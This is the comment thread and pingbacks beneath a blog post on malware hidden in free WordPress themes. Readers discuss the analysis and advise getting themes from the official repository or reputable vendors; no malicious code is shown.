          • I’m sure you know my opinion on the GPL-inheritance issue; that said, I have no problem whatsoever with the Theme Repository requiring hosted Themes to be 100% GPL-compatible.To be honest: I have yet to find a non-commercial Theme submitted under a non-GPL license that wasn’t compromised in some fashion. Most Themes that are GPL generally wind up in the Repository (that backend-search exposure is a pretty darn big incentive). The one exception I’ve found is Leland’s Themes at ThemeLab. I don’t know if I would trust any other extra-repository, free-Theme distributor.

            Given the state of the free-Theme environment right now, I am fairly confident in saying: buy a commercial Theme from a reputable developer, or get a free Theme from within the Repository. Anything else, and you will almost certainly get a compromised Theme.

            I’m wondering if it would be possible to develop some sort of WPORG-hosted digital-signature database against which to verify Themes?

            Outside of that, Theme developers are going to have to start looking at registering their Theme names as Trademarks, and then enforcing those Trademarks. Unfortunately, this route is very likely prohibitively expensive for free-Theme developers.

            • Ohhh, burn on the non-repo free themes! LOL.

              … I have non repo hosted free themes 😛

              Oh, and thanks for the writeup Otto! Fascinating to hear how these evil little buggers get their spammy crap into WordPress installs.

  7. props for the Cro Mags favicon and Biohazard logo in thepost!

  8. Looks like one of my wordpress themes (green park 2) has been altered as well. Thanks for your extensive write-up.

  9. Nice analysis! And I didn’t even realize that PHP had a pack() function, though I’ve used it a lot in Perl over the years. I used to use it for formatting binary data to send/receive data to a mainframe interface on a trucking company website

    Anyhow, that’s definitely a clever, devious, smart bit of ugliness there. If only the author would use his powers for Good!

  10. […] does a great job going in-depth and explaining exactly how this particular piece of theme malware works. Most of the explanation is over my head but it gives […]

  11. […] Theme loaded with malware was uncovered. Otto wrote up a dissection of the Theme in “Anatomy of a Theme Malware,” giving programmers, developers, and WordPress Theme hosts an inside look at the insidious […]

  12. […] I’ve just published “WordPress Theme Malware Prevention and Protection on WordCast, covering the recent WordPress Theme dissection of malware by Otto. […]

  13. […] old adage: “Too good to be true”, plays out in the internet world as well.Here’s an excellent explanation of how spammers use WordPress theme to spreadtheir malware.How do you avoid getting WordPress Theme malwareAlways get free theme […]

  14. that site has been around a very long time offering theme downloads with modifiled functions.php files.
    I even notified one of the original theme authors, at least 12-14 months ago

  15. Otto,

    Just came from Lorelle’s page, first time here.

    In my blog’s niche, almost 99% my readers are wordpress beginners, i am very happy to always remind them to download clean free themes that they can access from dashboard.

    I am so happy i did write it almost on all my posts which are themes related.

    Thanks to bring it up, great reminder.

  16. I just still wondering why top-themes( still active.I tested to download some of the theme and it still have the blocks of functions/codes there.They can distribute those themes with malware if they can still operate.If all of the themes on that site contain basically the same code, why wordpress allow this site to continouslydistribute infected themes.

    • How do you propose for “WordPress” to disallow such sites from distributing infected Themes?

      If such sites are violating the WordPress Trademark policy regarding domain names, then the WordPress Foundation has some recourse to take down trademark-violating domain names. Otherwise, WordPress has no more recourse than anyone else.

      FYI, I contacted the registrar for, and got no response. I also reported the site to Google, and also got no response.

  17. […] has published an article with examples of where to look for compromised code. Full article at: Ottopress recommend getting your free themes from Extend-Themes instead. WordPress […]

  18. […] posted about his findings when tearing apart a set of themes ridden with malware. Jeff Chandler followed up with a few […]

  19. […] Additionally, this malware sends notification to its creator about it existence on a server and allows him to insert links on writable theme files on a wordpress installation. Otto, the coder of my Gravatar Hovercards plugin, wrote a post called Anatomy of a Theme Malware where he explains the nature of this malware. Read here […]

  20. […] gotten a few responses back to some of my malware related posts asking why WordPress doesn’t check for this sort of thing in the core code. Why can’t […]

  21. […] specifically WordPress Themes, Plugins,and out-of-date versions of WordPress. WordPress expert, Otto of OttoPress investigated a WordPress malware hack last year, uncovering the insidious methods they use. Having had two of my sites and a few […]

  22. […] and redistribution. However, these Theme modifications turned out to be insidiously malicious. As Otto explains, Themes distributed by the site in question had been hacked to (among other things) include a […]23. […] malware and it’s worth investigating to see some of the ways people try to hide their spam.via Anatomy of a Theme Malware » Otto on WordPress.Now, this is not intended to imply that all WordPress theme download sites are bad, or that you […]

  24. […] example of a sneaky trojanized WordPress theme was analyzed in detail by Otto in December of 2010. In it he points out another rule of thumb which is to only download themes from the official […]

  25. It is good to find out that website is not providing anything regarding WordPress.

    Otto are you responsible for ensuring the shuts down? If so congratulations! This is perhaps, the best way to tackle such people who are spreading malware by providing infected themes for download.

    Thank you for the post as it is very helpful for WordPress Developers like me.

  26. […] dangerous themes and plugins are distributed in the wild but some have also cropped up on, usually after a developer has been […]

  27. […] dangerous themes and plugins are distributed in the wild but some have also cropped up on, usually after a developer has been […]

  28. […] encrypted link with them, that allows its creators full access to your site, and the possibility of infecting you, or even Google penalizing […]

Leave a Reply

You may use these HTML tags and attributes: <a href="" title=""> <abbr title=""><acronym title=""> <b> <blockquote cite=""> <cite> <code> <del datetime=""> <em> <i> <q cite=""> <s> <strike> <strong>Need to post PHP code?Wrap it in [php] and [/php] tags.